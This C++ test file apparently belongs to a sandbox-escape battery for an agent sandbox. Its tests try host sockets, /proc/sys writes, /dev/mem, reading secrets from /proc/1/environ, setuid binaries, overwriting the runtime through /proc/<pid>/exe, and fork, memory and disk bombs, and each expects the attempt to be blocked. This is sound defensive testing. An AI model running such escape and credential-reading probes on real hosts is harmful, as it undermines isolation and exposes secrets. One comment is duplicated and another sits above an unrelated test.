  EXPECT_EQ(in.err, ECONNREFUSED) << in.Describe();
}

// Landlock-only: no network namespace, so 127.0.0.1 is the host's own.
// Landlock refuses the TCP port, the runner's connect() mediation the
// address (and reports it); the seccomp filter makes no UDP socket.
TEST(Attack, LandlockOnlyDirectTcpToAHostLoopbackService) {
  Attack a("landlock-only direct TCP to a host loopback service", Kind::kBoundary);
  Fd l(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof(addr);
  ASSERT_EQ(bind(l.get(), reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ASSERT_EQ(listen(l.get(), 8), 0);
  ASSERT_EQ(getsockname(l.get(), reinterpret_cast<sockaddr*>(&addr), &len), 0);
  const std::string port = std::to_string(ntohs(addr.sin_port));
  Sandbox sb;
  EXPECT_TRUE(a.Host(sb, {"tcp", port}).ok);
  const int host_conn = accept4(l.get(), nullptr, nullptr, SOCK_CLOEXEC);
  EXPECT_GE(host_conn, 0) << "the host check's connection did not arrive";
  if (host_conn >= 0) close(host_conn);
  if (ContainerMode() || MicrovmMode()) {
    a.NotApplicable("the landlock-only backend is a rung of isolation: os; this run is on another kernel");
    return;
  }
  Probe in = a.Inside(sb, {"tcp", port}, {"--backend", "landlock", "--require", "partial"});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_EQ(in.err, ECONNREFUSED) << in.Describe();  // the connect() broker's refusal
  const int reached = accept4(l.get(), nullptr, nullptr, SOCK_CLOEXEC);
  if (reached >= 0) {
    close(reached);
    a.Escaped("a connection from inside reached the host listener");
  }
  a.ExpectDenial("network", "connect", "127.0.0.1:" + port);
}

TEST(Attack, LandlockOnlyUdp) {
  Attack a("landlock-only UDP to a host 127.0.0.1 listener", Kind::kBoundary);
  Fd s(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof(addr);
  ASSERT_EQ(bind(s.get(), reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ASSERT_EQ(getsockname(s.get(), reinterpret_cast<sockaddr*>(&addr), &len), 0);
  const std::string port = std::to_string(ntohs(addr.sin_port));
  auto received = [&] {
    std::string got;
    char buf[512];
    ssize_t n;
    while ((n = recv(s.get(), buf, sizeof(buf), 0)) > 0) got.append(buf, static_cast<size_t>(n));
    return got;
  };
  Sandbox sb;
  const std::string host_marker = "udp-host-" + RandomHex(4), marker = "udp-box-" + RandomHex(4);
  EXPECT_TRUE(a.Host(sb, {"udp", port, host_marker}).ok);
  EXPECT_TRUE(Contains(received(), host_marker)) << "the host check's datagrams did not arrive";
  if (ContainerMode() || MicrovmMode()) {
    a.NotApplicable("the landlock-only backend is a rung of isolation: os; this run is on another kernel");
    return;
  }
  Probe in = a.Inside(sb, {"udp", port, marker}, {"--backend", "landlock", "--require", "partial"});
  const std::string got = received();
  EXPECT_FALSE(Contains(got, marker)) << "a datagram from inside reached the host listener";
  if (Contains(got, marker)) a.Escaped("datagram reached the host listener");
  else a.Blocked("no datagram from inside reached the host listener");
  EXPECT_EQ(in.err, EPERM) << in.Describe();
  a.ExpectDenial("network", "socket", "AF_INET SOCK_DGRAM");
}

TEST(Attack, AbstractUnixSocketOfTheHost) {
  Attack a("abstract unix socket of the host", Kind::kBoundary);
  const std::string name = "agentbox-escape-" + RandomHex(6);
  Fd l(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path + 1, name.data(), name.size());
  ASSERT_EQ(bind(l.get(), reinterpret_cast<sockaddr*>(&addr),
                 static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size())), 0);
  ASSERT_EQ(listen(l.get(), 8), 0);
  Sandbox sb;
  EXPECT_TRUE(a.Host(sb, {"unix_abstract", name}).ok);
  Probe in = a.Inside(sb, {"unix_abstract", name});
  EXPECT_FALSE(in.ok) << in.Describe();
}

// A listening unix stream socket bound at `path` (invalid on failure).
Fd UnixListener(const std::string& path, int flags) {
  Fd l(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | flags, 0));
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (!l.valid() || path.size() >= sizeof(addr.sun_path)) return Fd(-1);
  std::memcpy(addr.sun_path, path.data(), path.size());
  if (bind(l.get(), reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 || listen(l.get(), 8) != 0) return Fd(-1);
  return l;
}

TEST(Attack, PathnameUnixSocketOfTheHost) {
  Attack a("pathname unix socket of the host", Kind::kBoundary);
  Sandbox sb;
  const std::string path = sb.scratch() + "/host.sock";
  Fd l = UnixListener(path, 0);
  ASSERT_TRUE(l.valid()) << path;
  EXPECT_TRUE(a.Host(sb, {"unix_path", path}).ok);
  Probe in = a.Inside(sb, {"unix_path", path});
  EXPECT_FALSE(in.ok) << in.Describe();
}

// A host service's socket the sandbox can see (here: in the workspace, on
// both backends): connect() is decided by the runner and refused.
void UnixSocketInTheWorkspace(const std::vector<std::string>& options, const char* name) {
  Attack a(name, Kind::kBoundary);
  Sandbox sb;
  const std::string path = sb.ws() + "/service.sock";
  Fd l = UnixListener(path, SOCK_NONBLOCK);
  ASSERT_TRUE(l.valid()) << path;
  EXPECT_TRUE(a.Host(sb, {"unix_path", path}).ok);
  while (true) {  // drain the host check's connection
    int c = accept4(l.get(), nullptr, nullptr, SOCK_CLOEXEC);
    if (c < 0) break;
    close(c);
  }
  if ((ContainerMode() || MicrovmMode()) && std::find(options.begin(), options.end(), "--backend") != options.end()) {
    a.NotApplicable("the landlock-only backend is a rung of isolation: os; this run is on another kernel");
    return;
  }
  Probe in = a.Inside(sb, {"unix_path", "service.sock"}, options);
  EXPECT_FALSE(in.ok) << in.Describe();
  // gVisor's Sentry reaches no host socket: EPERM there.
  // In a microVM the socket file is a virtiofs inode: no host listener behind it.
  if (MicrovmMode()) {
    EXPECT_TRUE(in.err == ECONNREFUSED || in.err == EACCES) << in.Describe();
  } else {
    EXPECT_EQ(in.err, ContainerMode() ? EPERM : EACCES) << in.Describe();
  }
  const int reached = accept4(l.get(), nullptr, nullptr, SOCK_CLOEXEC);
  if (reached >= 0) {
    close(reached);
    a.Escaped("a connection from inside reached the host listener");
  }
  a.ExpectDenial("filesystem", "connect", "service.sock");
}

TEST(Attack, UnixSocketOfAHostServiceInTheWorkspace) {
  UnixSocketInTheWorkspace({}, "unix socket of a host service in the workspace");
}

TEST(Attack, UnixSocketOfAHostServiceLandlockOnly) {
  UnixSocketInTheWorkspace({"--backend", "landlock", "--require", "partial"},
                           "unix socket of a host service in the workspace (landlock-only)");
}

TEST(Attack, DnsResolutionOfAnOutsideName) {
  Attack a("DNS resolution of example.com", Kind::kBoundary);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {"dns", "example.com"}), "this machine has no outside DNS");
  Probe in = a.Inside(sb, {"dns", "example.com"});
  EXPECT_FALSE(in.ok) << in.Describe();
  // The sandbox's resolver is the supervisor's DNS, which refuses a name
  // nothing allows, and says so in the report.
  // On gVisor there is no network at all: no route to any resolver.
  // In a microVM no DNS listens in the guest's namespace: refused, or no route.
  if (MicrovmMode()) {
    EXPECT_TRUE(in.err == ECONNREFUSED || in.err == EHOSTUNREACH || in.err == ENETUNREACH) << in.Describe();
  } else {
    EXPECT_EQ(in.err, ContainerMode() ? EHOSTUNREACH : ECONNREFUSED) << in.Describe();
  }
  a.ExpectDenial("network", "dns", "example.com");
}

// ------------------------------------------------------------ /proc, /sys, devices

TEST(Attack, WriteToProcSys) {
  Attack a("write to /proc/sys (vm.swappiness, same value)", Kind::kBoundary);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {"rewrite", "/proc/sys/vm/swappiness"}),
                Root() ? "/proc/sys is not writable for root here (a container?)"
                       : "the host allows this only to root");
  Probe in = a.InsideSh(sb, "./escape_probe rewrite /proc/sys/vm/swappiness; ./escape_probe rewrite /proc/sys/kernel/hostname",
                        "rewrite");
  EXPECT_FALSE(in.ok) << a.run().out;
  // EROFS: /proc/sys is read-only. EACCES: an unprivileged user meets the
  // file's mode first.
  // EROFS: /proc/sys is read-only. EACCES: an unprivileged user meets the
  // file's mode first. gVisor's procfs has no vm.swappiness (ENOENT), and
  // its kernel/hostname is read-only (EACCES).
  EXPECT_TRUE(in.err == EROFS || (!Root() && in.err == EACCES) ||
              (ContainerMode() && (in.err == ENOENT || in.err == EACCES)))
      << in.Describe();
}

void DeviceOrProcFile(const std::string& name, const std::string& probe, const std::string& path) {
  Attack a(name, Kind::kBoundary);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {probe, path}), "the host refuses this user");
  Probe in = a.Inside(sb, {probe, path});
  EXPECT_FALSE(in.ok) << in.Describe();
}

TEST(Attack, SysrqTrigger) { DeviceOrProcFile("/proc/sysrq-trigger (opened, nothing written)", "open_wr", "/proc/sysrq-trigger"); }
TEST(Attack, ProcKcore) { DeviceOrProcFile("/proc/kcore", "open_ro", "/proc/kcore"); }
TEST(Attack, DevMem) { DeviceOrProcFile("/dev/mem", "open_ro", "/dev/mem"); }
TEST(Attack, DevKvm) { DeviceOrProcFile("/dev/kvm", "open_rw", "/dev/kvm"); }

TEST(Attack, SysvIpcOfTheHost) {
  Attack a("System V shared memory of the host", Kind::kBoundary);
  const key_t key = static_cast<key_t>(0x5e000000 | (std::stoul(RandomHex(3), nullptr, 16) & 0xffffff));
  int id = shmget(key, 4096, IPC_CREAT | IPC_EXCL | 0600);
  ASSERT_GE(id, 0) << std::strerror(errno);
  struct Rm {
    int id;
    ~Rm() { shmctl(id, IPC_RMID, nullptr); }
  } rm{id};
  Sandbox sb;
  const std::string k = std::to_string(key);
  EXPECT_TRUE(a.Host(sb, {"sysv_shm", k}).ok);
  Probe in = a.Inside(sb, {"sysv_shm", k});
  EXPECT_FALSE(in.ok) << in.Describe();
}

// ------------------------------------------------------------ privileges

// The setuid and file-capability copies of the probe: staged here when root,
// else by tests/escape/run_battery.sh (as root) into $ESCAPE_PRIV_STAGE.
class PrivStage {
 public:
  PrivStage() {
    if (const char* d = getenv("ESCAPE_PRIV_STAGE"); d && *d) {
      dir_ = d;
    } else if (Root()) {
      own_ = std::make_unique<TempDir>("escape-priv-");
      chmod(own_->path().c_str(), 0755);
      e2e::Command c{{ProbeBin(), "stage_privileged", own_->path()}, "", {"PATH=/usr/bin:/bin"}, "", -1, 10000};
      e2e::RunResult r = e2e::RunCommand(c);
      if (ParseProbe(r.out, "stage_privileged").ok) dir_ = own_->path();
    }
  }
  const std::string& dir() const { return dir_; }
  // A policy that also mounts the stage directory (read-only, as usual).
  std::string Policy(const Sandbox& sb) const {
    const std::string p = sb.scratch() + "/priv-policy.yaml";
    e2e::WriteFile(p, "version: 1\nfilesystem:\n  read_only: [/usr, /bin, /sbin, /lib, /lib64, /etc, " + dir_ + "]\n");
    return p;
  }

 private:
  std::unique_ptr<TempDir> own_;
  std::string dir_;
};

// A set-id bit set inside stays on the host file (the workspace is nosuid
// only inside): refused, and the host file keeps its mode.
// agentbox's own state (the daemon's socket, session logs and layers) in a
// workspace that holds it: the home directory as the workspace.
TEST(Attack, ReadAgentboxStateWithHomeAsTheWorkspace) {
  Attack a("read agentbox's own state (home as the workspace)", Kind::kBoundary);
  Sandbox sb;
  const std::string marker = "statesecret" + RandomHex(6);
  const std::string log = sb.home() + "/.local/state/agentbox/sessions/s-1/log.jsonl";
  e2e::WriteFile(log, marker + "\n", 0600);
  EXPECT_TRUE(a.Host(sb, {"read", log, marker}).ok);
  e2e::WriteFile(sb.home() + "/escape_probe", *e2e::ReadFile(ProbeBin()), 0755);
  Probe in = a.InsideSh(sb, "exec \"$HOME/escape_probe\" read '" + log + "' " + marker, "read",
                        {"--workspace", sb.home()});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_EQ(in.err, EACCES) << in.Describe();
}

// The caller's environment (API keys) through the runner's /proc entry.
TEST(Attack, ReadTheSupervisorsEnvironment) {
  Attack a("read the caller's environment through /proc/1/environ", Kind::kBoundary);
  Sandbox sb;
  const std::string marker = "envsecret" + RandomHex(6);
  EXPECT_TRUE(a.Host(sb, {"read", "/proc/self/environ", marker}, {"AGENTBOX_ESCAPE_KEY=" + marker}).ok)
      << "the secret is not in the environment agentbox is started with";
  Probe in = a.Inside(sb, {"read", "/proc/1/environ", marker}, {}, {"AGENTBOX_ESCAPE_KEY=" + marker});
  EXPECT_FALSE(in.ok) << in.Describe();
  // On gVisor pid 1 is the command itself (the supervisor and runsc are
  // outside the Sentry): its environ is readable, and scrubbed.
  if (ContainerMode()) {
    EXPECT_TRUE(in.present && Contains(in.detail, "marker absent")) << in.Describe();
  } else {
    EXPECT_EQ(in.err, EACCES) << in.Describe();
  }
}

TEST(Attack, SetIdBitOnAWorkspaceFile) {
  Attack a("set-id bit on a workspace file", Kind::kBoundary);
  Sandbox sb;
  e2e::WriteFile(sb.ws() + "/host-check", "#!/bin/sh\n", 0755);
  a.RequireHost(a.Host(sb, {"chmod_setid", sb.ws() + "/host-check"}), "chmod 06755 fails on the host's filesystem");
  unlink((sb.ws() + "/host-check").c_str());
  e2e::WriteFile(sb.ws() + "/tool", "#!/bin/sh\nid\n", 0755);
  Probe in = a.Inside(sb, {"chmod_setid", "tool"});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_EQ(in.err, EPERM) << in.Describe();
  struct stat st {};
  ASSERT_EQ(stat((sb.ws() + "/tool").c_str(), &st), 0);
  if (st.st_mode & (S_ISUID | S_ISGID)) a.Escaped("the host file is set-id");
  a.ExpectDenial("filesystem", "chmod", "tool");
}

TEST(Attack, SetuidBinary) {
  Attack a("setuid binary", Kind::kBoundary);
  PrivStage stage;
  if (stage.dir().empty()) {
    a.NotApplicable("no setuid copy of the probe could be staged (only root can make one)");
    return;
  }
  Sandbox sb;
  const std::string bin = stage.dir() + "/probe_setuid";
  // The host check: the setuid-65534 copy runs with euid 65534.
  e2e::Command c{{bin, "whoami"}, sb.ws(), sb.Env(), "", -1, 10000};
  Probe h = ParseProbe(e2e::RunCommand(c).out, "whoami");
  a.SetHost(h);
  a.RequireHost(h, "the setuid bit does not take effect here (a nosuid mount?)");
  Probe in = a.InsideSh(sb, bin + " whoami", "whoami", {"--policy", stage.Policy(sb)});
  EXPECT_FALSE(in.ok) << in.Describe() << "\n" << a.run().Describe();
  EXPECT_TRUE(in.present) << a.run().Describe();
}

TEST(Attack, FileCapabilities) {
  Attack a("file capabilities (cap_net_raw+ep)", Kind::kBoundary);
  PrivStage stage;
  if (stage.dir().empty()) {
    a.NotApplicable("no file-capability copy of the probe could be staged (only root can make one)");
    return;
  }
  Sandbox sb;
  const std::string bin = stage.dir() + "/probe_filecap";
  std::vector<std::string> argv = {bin, "caps_raw"};
  // As root the host check drops to uid 65534 first: root has the capability anyway.
  if (Root()) argv = {ProbeBin(), "as_uid", "65534", bin, "caps_raw"};
  e2e::Command c{argv, "/", sb.Env(), "", -1, 10000};
  Probe h = ParseProbe(e2e::RunCommand(c).out, "caps_raw");
  a.SetHost(h);
  a.RequireHost(h, "file capabilities do not take effect here (CAP_NET_RAW outside the bounding set?)");
  if (Root()) a.HostNote("run as uid 65534: root holds the capability anyway");
  Probe in = a.InsideSh(sb, bin + " caps_raw", "caps_raw", {"--policy", stage.Policy(sb)});
  EXPECT_FALSE(in.ok) << in.Describe() << "\n" << a.run().Describe();
  EXPECT_TRUE(in.present) << a.run().Describe();
}

TEST(Attack, OverwriteProcSelfExe) {
  Attack a("overwrite the runtime binary through /proc/<pid>/exe", Kind::kBoundary);
  Sandbox sb;
  // Host check: a copy of sleep, held as O_PATH and reopened writable once it exits.
  TempDir dir("escape-exe-");
  const std::string copy = dir / "victim";
  e2e::WriteFile(copy, *e2e::ReadFile("/bin/sleep"), 0755);
  {
    e2e::Process victim(e2e::Command{{copy, "1"}, "", {"PATH=/usr/bin:/bin"}, "", -1, 30000});
    const pid_t pid = victim.pid();
    // Until the child has exec'd the copy, /proc/PID/exe is this test's own
    // binary (which the probe may not write, or which stays busy): wait for it.
    const std::string exe = "/proc/" + std::to_string(pid) + "/exe";
    std::string target;
    for (long until = e2e::NowMs() + 10000; target != copy && e2e::NowMs() < until; usleep(5000)) {
      char buf[4096];
      ssize_t n = readlink(exe.c_str(), buf, sizeof(buf));
      target.assign(buf, n > 0 ? static_cast<size_t>(n) : 0);
    }
    EXPECT_EQ(target, copy) << "the victim never ran the copy";
    // Reaped as soon as it exits: a zombie still holds its executable busy.
    std::thread reaper([&victim] { victim.Wait(); });
    EXPECT_TRUE(a.Host(sb, {"exe_overwrite", std::to_string(pid), "10000"}).ok);
    reaper.join();
  }
  struct stat before {}, after {};
  ASSERT_EQ(stat(e2e::AgentboxBin().c_str(), &before), 0);
  Probe in = a.InsideSh(sb, "./escape_probe exe_overwrite 1 300; ./escape_probe exe_overwrite " +
                                std::to_string(getpid()) + " 100", "exe_overwrite");
  for (const auto& l : e2e::Lines(a.run().out)) EXPECT_FALSE(Contains(l, " ok ")) << l;
  EXPECT_FALSE(in.ok) << in.Describe();
  ASSERT_EQ(stat(e2e::AgentboxBin().c_str(), &after), 0);
  EXPECT_EQ(before.st_mtim.tv_nsec, after.st_mtim.tv_nsec);
  EXPECT_EQ(before.st_size, after.st_size);
}

// ------------------------------------------------------------ resources

// True when this build applies the resource flag (not refused with 125).
// Where a cgroup of ours, or one delegated to this uid by setup-delegation,
// gives `controller` to a child (checked without agentbox), the flag must be
// applied: the delegated battery gets root's verdicts, or fails.
bool ResourceFlagAccepted(const Sandbox& sb, const std::vector<std::string>& flag, const char* controller) {
  const bool accepted = sb.RunArgv({"true"}, flag).status != 125;
  if (host_facts::CgroupControllerDelegated(controller)) {
    EXPECT_TRUE(accepted) << "a cgroup here gives " << controller << " to a child, yet " << flag[0]
                          << " was refused";
  }
  // max_processes without a pids cgroup: RLIMIT_NPROC in the sandbox's own
  // user namespace, where this host caps a namespace's tasks with it.
  if (std::string(controller) == "pids" && host_facts::NprocCapsUserNamespace()) {
    EXPECT_TRUE(accepted) << "RLIMIT_NPROC caps a user namespace's tasks here, yet " << flag[0] << " was refused";
  }
  return accepted;
}

TEST(Attack, ForkBomb) {
  Attack a("fork bomb (bounded: 256 processes, 5 s)", Kind::kBoundary);
  Sandbox sb;
  EXPECT_TRUE(a.Host(sb, {"forkbomb", "256", "5"}).ok);
  if (ResourceFlagAccepted(sb, {"--max-processes", "64"}, "pids")) {
    Probe in = a.Inside(sb, {"forkbomb", "256", "5"}, {"--max-processes", "64"}, {}, 60000);
    EXPECT_FALSE(in.ok) << in.Describe() << "\n" << a.run().Describe();
    EXPECT_EQ(in.err, EAGAIN) << in.Describe();
  } else {
    e2e::RunResult refused = sb.RunArgv({"true"}, {"--max-processes", "64"});
    EXPECT_EQ(refused.status, 125) << refused.Describe();
    EXPECT_EQ(e2e::ErrorStage(refused), "confine") << refused.Describe();
    // Without a limit the bomb stays bounded by its own count and timeout.
    Probe in = a.Inside(sb, {"forkbomb", "256", "5"}, {}, {}, 30000);
    EXPECT_FALSE(a.run().timed_out) << a.run().Describe();
    a.Refused("--max-processes is refused here (exit 125, fail closed): the bomb ran unlimited, bounded by itself");
  }
  EXPECT_TRUE(e2e::WaitUntilNoProcess("escape_probe forkbomb", 30000));
}

TEST(Attack, MemoryBomb) {
  Attack a("memory bomb (bounded: 256 MiB)", Kind::kBoundary);
  Sandbox sb;
  // A microVM's memory holds its guest kernel too, which needs 96 MiB to boot.
  const std::string limit = MicrovmMode() ? "128Mi" : "64Mi";
  EXPECT_TRUE(a.Host(sb, {"membomb", "256"}).ok);
  if (ResourceFlagAccepted(sb, {"--memory", limit}, "memory")) {
    Probe in = a.Inside(sb, {"membomb", "256"}, {"--memory", limit}, {}, 60000);
    EXPECT_FALSE(in.ok) << in.Describe() << "\n" << a.run().Describe();
    EXPECT_EQ(e2e::OutcomeOf(a.run()), "oom_killed") << a.run().Describe();
    EXPECT_EQ(a.run().status, 137) << a.run().Describe();
    // The kill leaves the probe no time to print: the report is the evidence.
    if (e2e::OutcomeOf(a.run()) == "oom_killed") a.Blocked("the report's outcome is oom_killed under --memory " + limit);
  } else {
    e2e::RunResult refused = sb.RunArgv({"true"}, {"--memory", limit});
    EXPECT_EQ(refused.status, 125) << refused.Describe();
    // Accepted as partial, the report says memory is not bounded.
    e2e::RunResult partial = sb.RunArgv({"true"}, {"--memory", "64Mi", "--require", "partial"});
    EXPECT_EQ(partial.status, 0) << partial.Describe();
    EXPECT_NE(e2e::MissingText(partial).find("memory_gib: not enforced"), std::string::npos) << partial.Describe();
    Probe in = a.Inside(sb, {"membomb", "256"}, {}, {}, 30000);
    EXPECT_FALSE(a.run().timed_out) << a.run().Describe();
    a.Refused("--memory is refused here (exit 125, fail closed): the bomb ran unlimited, bounded by its size");
  }
}

TEST(Attack, DiskFillOfTmp) {
  Attack a("disk fill of /tmp (bounded: 128 MiB)", Kind::kBoundary);
  Sandbox sb;
  EXPECT_TRUE(a.Host(sb, {"fill", sb.scratch(), "128"}).ok);
  const std::string policy = sb.scratch() + "/disk.yaml";
  e2e::WriteFile(policy, "version: 1\nresources:\n  disk_gib: 0.0625\n");
  // disk_gib sizes the private /tmp; --require partial because this build
  // counts the key as a resource limit it cannot fully enforce elsewhere.
  Probe in = a.Inside(sb, {"fill", "/tmp", "128"}, {"--policy", policy, "--require", "partial"});
  EXPECT_FALSE(in.ok) << in.Describe() << "\n" << a.run().Describe();
  // Stopped by the tmpfs size (ENOSPC) or by RLIMIT_FSIZE (SIGXFSZ), whichever comes first.
  EXPECT_TRUE(in.err == ENOSPC || a.run().status == 128 + SIGXFSZ) << in.Describe() << "\n" << a.run().Describe();
  if (a.run().status == 128 + SIGXFSZ) a.Blocked("the writer was stopped by SIGXFSZ (RLIMIT_FSIZE)");
  EXPECT_FALSE(Exists(e2e::TempRoot() + "/escape-fill"));
}

}  // namespace
}  // namespace agentbox::escape
